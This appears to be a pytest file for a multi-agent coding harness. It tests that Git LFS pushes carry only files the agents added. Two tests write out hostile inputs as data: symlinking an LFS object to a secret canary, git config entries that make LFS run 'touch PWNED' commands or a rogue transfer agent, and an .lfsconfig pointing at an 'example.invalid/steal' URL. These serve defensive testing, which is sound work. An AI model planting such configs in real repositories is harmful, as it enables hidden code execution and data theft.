"""Git LFS from the clone to the push: what agents added reaches the repository's server, and nothing else."""

import os
import shutil
from pathlib import Path

import pytest
from finishing_team import Finishing
from runner_places import Place, git, make_repository


@pytest.fixture
def large(tmp_path: Path) -> Finishing:
    """A team on a repository with a large file."""
    if shutil.which("git-lfs") is None:
        assert os.environ.get("CI") != "true", "CI needs git-lfs: run tools/install-test-packages"
        pytest.skip("no git-lfs: install it, or run tools/install-test-packages")
    source = make_repository(tmp_path / "seed")
    git(source, "lfs", "install", "--local")
    git(source, "lfs", "track", "*.bin")
    (source / "old.bin").write_text("old\n")
    git(source, "add", ".")
    git(source, "commit", "-q", "-m", "Add a large file")
    remote = tmp_path / "backend.git"
    git(tmp_path, "clone", "-q", "--bare", str(source), str(remote))
    shutil.copytree(source / ".git" / "lfs", remote / "lfs")
    (tmp_path / "place").mkdir()
    place = Place(tmp_path / "place")
    place.repository = {"url": f"file://{remote}", "branch": "main", "worktreeStrategy": "per-teammate"}
    place.prepare()
    found = Finishing(place, remote)
    found.wish["order"] = ["scout", "lead"]
    return found


def stored(remote: Path) -> set[str]:
    """What the server keeps, by content."""
    return {path.read_text() for path in (remote / "lfs" / "objects").rglob("*") if path.is_file()}


def test_new_large_files_are_uploaded_before_the_push(large: Finishing) -> None:
    assert (large.place.work / "worktrees/scout/old.bin").read_text() == "old\n"
    large.work("scout", "new.bin", "first\n")
    large.work("scout", "new.bin", "second\n")
    large.outcome()
    assert "version https://git-lfs" in large.pushed("new.bin")
    assert stored(large.remote) == {"old\n", "first\n", "second\n"}


@pytest.mark.parametrize("how", ["other content", "a link"])
def test_what_is_not_what_its_name_says_is_not_uploaded(large: Finishing, how: str, tmp_path: Path) -> None:
    large.work("scout", "new.bin", "mine\n")
    secret = tmp_path / "secret"
    secret.write_text("secret-canary\n")
    for path in (large.place.work / "repo/.git/lfs/objects").rglob("*"):
        if path.is_file() and path.read_text() == "mine\n":
            path.chmod(0o644)
            path.unlink()
            if how == "a link":
                path.symlink_to(secret)
            else:
                path.write_text("secret-canary\n")
    large.outcome()
    assert stored(large.remote) <= {"old\n", "mine\n"}


def test_programs_that_an_agent_named_for_large_files_do_not_run(large: Finishing, tmp_path: Path) -> None:
    clone = large.place.work / "repo"
    for name in ("clean", "smudge"):
        git(clone, "config", f"lfs.extension.evil.{name}", f"touch {tmp_path}/PWNED")
    git(clone, "config", "lfs.extension.evil.priority", "0")
    git(clone, "config", "lfs.customtransfer.evil.path", f"{tmp_path}/evil")
    git(clone, "config", "lfs.standalonetransferagent", "evil")
    worktree = large.place.work / "worktrees" / "scout"
    (worktree / ".lfsconfig").write_text("[lfs]\n\turl = https://example.invalid/steal\n")
    (worktree / "left.bin").write_text("left\n")
    large.outcome()
    assert not (tmp_path / "PWNED").exists()
    assert {"old\n", "left\n"} <= stored(large.remote)
